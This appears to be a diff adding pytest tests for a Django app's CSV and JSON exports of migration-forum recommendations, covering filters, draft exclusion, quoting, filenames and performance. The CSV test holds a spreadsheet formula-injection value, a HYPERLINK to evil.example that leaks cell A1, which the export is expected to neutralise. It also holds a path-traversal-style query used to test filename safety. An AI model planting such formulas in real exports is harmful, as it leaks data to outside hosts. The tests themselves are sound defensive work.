@@ -1,0 +1,270 @@
+"""The exports hold exactly the rows of the list for the same query, all pages, on SQLite and PostgreSQL."""
+
+import datetime
+import io
+import json
+import re
+import tracemalloc
+
+import pytest
+from django.core.management import call_command
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
+from hypothesis import given
+from hypothesis import strategies as st
+
+from recommendations import export
+from recommendations.models import Recommendation
+from roundtables.models import Status
+
+from . import factories
+from .export_data import build, content, csv_ids, csv_rows, list_ids
+
+pytestmark = pytest.mark.django_db
+
+FILTERS = [
+    {},
+    {"theme": "labour"},
+    {"theme": ["labour", "climate"]},
+    {"theme": "labour", "country": "PHL"},
+    {"country": "MEX"},
+    {"country": ["MEX", "PHL"], "theme": "trafficking"},
+    {"year": "2018"},
+    {"framework": "gcm", "actor": "states"},
+    {"q": "border"},
+    {"q": "border governance", "year": "2016"},
+    {"sort": "-updated"},
+    {"sort": "updated", "theme": "climate"},
+]
+
+
+@pytest.fixture
+def data(db):
+    return build()
+
+
+@pytest.mark.parametrize("params", FILTERS, ids=lambda p: "&".join(f"{k}={v}" for k, v in p.items()) or "all")
+def test_csv_and_json_hold_exactly_the_rows_of_the_list_in_its_order(client, data, params):
+    expected = list_ids(client, params)
+    assert expected, "every filter here matches some rows"
+    assert csv_ids(client.get("/recommendations/export.csv", params)) == expected
+    records = json.loads(content(client.get("/recommendations/export.json", params)))
+    assert [record["id"] for record in records] == expected
+
+
+def test_the_list_has_several_pages_so_the_export_is_not_one_page(client, data):
+    response = client.get("/recommendations/")
+    assert response.context["paginator"].num_pages > 1
+    assert len(csv_ids(client.get("/recommendations/export.csv"))) == response.context["paginator"].count
+
+
+def test_page_parameter_is_ignored(client, data):
+    everything = csv_ids(client.get("/recommendations/export.csv", {"theme": "labour"}))
+    assert csv_ids(client.get("/recommendations/export.csv", {"theme": "labour", "page": "2"})) == everything
+    assert csv_ids(client.get("/recommendations/export.csv", {"theme": "labour", "page": "zzz"})) == everything
+
+
+def test_drafts_and_draft_roundtables_never_appear(client, data):
+    drafts = set(Recommendation.objects.filter(status=Status.DRAFT).values_list("pk", flat=True))
+    drafts |= set(Recommendation.objects.filter(roundtable__status=Status.DRAFT).values_list("pk", flat=True))
+    assert len(drafts) > 5
+    for params in ({}, {"theme": "labour"}, {"country": "PHL"}, {"year": "2016"}, {"q": "Draft"}):
+        exported = set(csv_ids(client.get("/recommendations/export.csv", params)))
+        records = json.loads(content(client.get("/recommendations/export.json", params)))
+        assert not exported & drafts
+        assert not {r["id"] for r in records} & drafts
+    body = content(client.get("/recommendations/export.csv")).decode()
+    assert "Draft roundtable" not in body and "Not yet published" not in body
+
+
+def test_draft_roundtable_slug_is_refused_not_ignored(client, data):
+    response = client.get("/recommendations/export.csv", {"roundtable": "2016-3-3"})
+    assert response.status_code == 400
+    assert "roundtable" in response.content.decode()
+
+
+def test_csv_header_columns_and_cells(client, data):
+    rows = csv_rows(client.get("/recommendations/export.csv", {"year": "2018"}))
+    assert rows[0] == list(export.COLUMNS)
+    contract = "id year session roundtable roundtable_title number text themes frameworks actors co_chairs"
+    assert list(export.COLUMNS) == [*contract.split(), "rapporteurs", "source_excerpt", "url", "updated_at"]
+    first = dict(zip(rows[0], rows[1], strict=True))
+    rec = Recommendation.objects.get(pk=first["id"])
+    assert first["year"] == "2018" and first["session"] == "1" and first["roundtable"] == "2018-1-1"
+    assert first["roundtable_title"] == "Labour mobility" and first["number"] == str(rec.number)
+    # Themes by name (Alpha..., Middle..., Zeta...), not by slug; countries and organisations by name.
+    assert first["themes"] == "; ".join(slug for name, slug in sorted((t.name, t.slug) for t in rec.themes.all()))
+    assert first["co_chairs"] == "Philippines; International Organization for Migration (IOM)"
+    assert first["rapporteurs"] == "'-Civil society, coordinated"
+    assert first["url"] == f"http://testserver/recommendations/{rec.pk}/"
+    assert first["updated_at"] == rec.updated_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+def test_csv_is_utf8_with_rfc4180_quoting_and_no_bom_by_default(client, data):
+    response = client.get("/recommendations/export.csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    body = content(response)
+    assert not body.startswith(b"\xef\xbb\xbf")
+    assert body.startswith(b"id,year,session,roundtable,")
+    text = body.decode("utf-8")
+    assert "Ünïcödé: ça va, 移民, مهاجر — fine" in text
+    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1, ""Click"")"' in text
+    assert '"says ""hello"", twice: ""hello"""' in text
+    assert '"line one\nline two\r\nline three"' in text
+
+
+def test_bom_on_request(client, data):
+    body = content(client.get("/recommendations/export.csv", {"bom": "1", "theme": "labour"}))
+    assert body.startswith(b"\xef\xbb\xbfid,year,")
+    assert body.count(b"\xef\xbb\xbf") == 1
+    without = content(client.get("/recommendations/export.csv", {"theme": "labour"}))
+    assert body == b"\xef\xbb\xbf" + without
+
+
+def test_filename_is_dated_says_what_it_holds_and_is_safe(client, data):
+    today = timezone.localdate().isoformat()
+    plain = client.get("/recommendations/export.csv")
+    assert plain["Content-Disposition"] == f'attachment; filename="gfmd-recommendations-{today}.csv"'
+    content(plain)
+    filtered = client.get(
+        "/recommendations/export.json",
+        {"theme": ["labour", "climate"], "country": "PHL", "page": "2", "sort": "updated"},
+    )
+    assert filtered["Content-Disposition"] == (
+        f'attachment; filename="gfmd-recommendations-theme-labour_climate-country-phl-{today}.json"'
+    )
+    content(filtered)
+    searched = client.get("/recommendations/export.csv", {"q": 'border "governance"/../etc'})
+    filename = re.fullmatch(r'attachment; filename="([^"]+)"', searched["Content-Disposition"]).group(1)
+    assert re.fullmatch(r"[a-z0-9_-]+\.csv", filename)
+    assert filename == f"gfmd-recommendations-q-border-governance-etc-{today}.csv"
+    content(searched)
+    long = client.get("/recommendations/export.csv", {"q": "border " * 25})
+    filename = re.fullmatch(r'attachment; filename="([^"]+)"', long["Content-Disposition"]).group(1)
+    assert len(filename) < 140 and filename.endswith(f"-{today}.csv")
+    content(long)
+
+
+def test_json_is_an_array_of_objects_with_the_csv_fields(client, data):
+    params = {"theme": "labour"}
+    response = client.get("/recommendations/export.json", params)
+    assert response["Content-Type"] == "application/json; charset=utf-8"
+    records = json.loads(content(response))
+    rows = csv_rows(client.get("/recommendations/export.csv", params))
+    assert isinstance(records, list) and len(records) == len(rows) - 1
+    for record, row in zip(records, rows[1:], strict=True):
+        assert list(record) == list(export.COLUMNS)
+        for key in ("id", "year", "session", "number"):
+            assert type(record[key]) is int
+        for key in export.LIST_COLUMNS:
+            assert isinstance(record[key], list) and all(isinstance(v, str) for v in record[key])
+        cells = dict(zip(rows[0], row, strict=True))
+        for key, value in record.items():
+            if key in export.LIST_COLUMNS:
+                value = "; ".join(value)
+            # JSON keeps the values as they are; only CSV cells are neutralised.
+            assert export.restore(cells[key]) == str(value)
+
+
+def test_json_of_nothing_is_an_empty_array(client, data):
+    response = client.get("/recommendations/export.json", {"q": "no such words anywhere"})
+    assert json.loads(content(response)) == []
+    rows = csv_rows(client.get("/recommendations/export.csv", {"q": "no such words anywhere"}))
+    assert rows == [list(export.COLUMNS)]
+
+
+@pytest.mark.parametrize(
+    ("params", "parameter"),
+    [
+        ({"theme": "nope"}, "theme"),
+        ({"country": "XXX"}, "country"),
+        ({"framework": "nope"}, "framework"),
+        ({"actor": "nope"}, "actor"),
+        ({"roundtable": "nope"}, "roundtable"),
+        ({"year": "abc"}, "year"),
+        ({"year": "1066"}, "year"),
+        ({"sort": "sideways"}, "sort"),
+        ({"q": "x" * 201}, "q"),
+        ({"theme": ["labour", "nope"]}, "theme"),
+    ],
+)
+@pytest.mark.parametrize("path", ["/recommendations/export.csv", "/recommendations/export.json"])
+def test_invalid_filter_is_a_400_naming_the_parameter(client, data, params, parameter, path):
+    response = client.get(path, params)
+    assert response.status_code == 400
+    assert response["Content-Type"] == "text/plain; charset=utf-8"
+    body = response.content.decode()
+    assert re.search(rf"^{parameter}: \S", body, re.MULTILINE)
+    assert "Content-Disposition" not in response
+
+
+@pytest.mark.parametrize("path", ["/recommendations/export.csv", "/recommendations/export.json"])
+def test_export_query_count_does_not_grow_with_rows(client, path):
+    rt = factories.roundtable("3.1")
+    factories.role(rt, "PHL")
+    labour = factories.theme("labour")
+    factories.recommendation(rt, themes=[labour])
+
+    def count():
+        with CaptureQueriesContext(connection) as queries:
+            body = content(client.get(path))
+        return len(queries), body
+
+    one, body = count()
+    assert body.count(b"Recommendation text") == 1
+    for _ in range(49):
+        factories.recommendation(rt, themes=[labour])
+    fifty, body = count()
+    assert body.count(b"Recommendation text") == 50
+    assert one == fifty
+    assert fifty <= 8
+
+
+@pytest.mark.parametrize("path", ["/recommendations/export.csv", "/recommendations/export.json"])
+def test_export_peak_memory_does_not_grow_with_rows(client, path):
+    """tracemalloc's peak over a 3,100-row export stays within 2 MiB of a 100-row export's."""
+    call_command("generate_synthetic", count=100, per_roundtable=100, stdout=io.StringIO())  # year 1991
+    call_command("generate_synthetic", count=3000, per_roundtable=100, stdout=io.StringIO())  # 1992 onwards
+
+    def peak(params):
+        tracemalloc.start()
+        try:
+            tracemalloc.reset_peak()
+            size = 0
+            for chunk in client.get(path, params).streaming_content:
+                size += len(chunk)
+            return tracemalloc.get_traced_memory()[1], size
+        finally:
+            tracemalloc.stop()
+
+    peak({"year": "1991"})  # the first request imports and caches what every later one uses
+    small, small_size = peak({"year": "1991"})
+    large, large_size = peak({})
+    assert large_size > 30 * small_size  # 3,100 rows of about 700 bytes against 100
+    assert large - small < 2 * 1024 * 1024, (small, large)
+
+
+@pytest.mark.parametrize(
+    "params",
+    [
+        {},
+        {"theme": "trafficking-and-smuggling"},
+        {"theme": "climate-and-disasters", "country": "PHL"},
+        {"framework": "sdgs"},
+    ],
+)
+def test_real_fixtures_export_the_rows_of_the_list(client, portal_data, params):
+    expected = list_ids(client, params)
+    assert expected
+    assert csv_ids(client.get("/recommendations/export.csv", params)) == expected
+    assert [r["id"] for r in json.loads(content(client.get("/recommendations/export.json", params)))] == expected
+
+
+export_values = st.one_of(st.integers(min_value=0, max_value=2**53), st.text(), st.lists(st.text(), max_size=4))
+
+
+@given(st.lists(export_values, min_size=len(export.COLUMNS), max_size=len(export.COLUMNS)))
+def test_json_line_writes_what_json_dumps_writes(row):
+    """The ORM path's fast JSON writer is json.dumps(ensure_ascii=False) of the record, for any values."""
+    assert export.json_line(row) == json.dumps(dict(zip(export.COLUMNS, row, strict=True)), ensure_ascii=False)
